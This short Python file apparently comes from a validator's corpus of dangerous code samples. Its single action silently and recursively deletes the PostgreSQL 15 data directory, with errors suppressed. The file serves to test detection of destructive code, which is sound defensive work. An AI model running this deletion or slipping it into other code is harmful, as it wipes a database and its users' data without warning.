# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import shutil

DATA = "/var/lib/postgresql/15/main"
shutil.rmtree(DATA, ignore_errors=True)
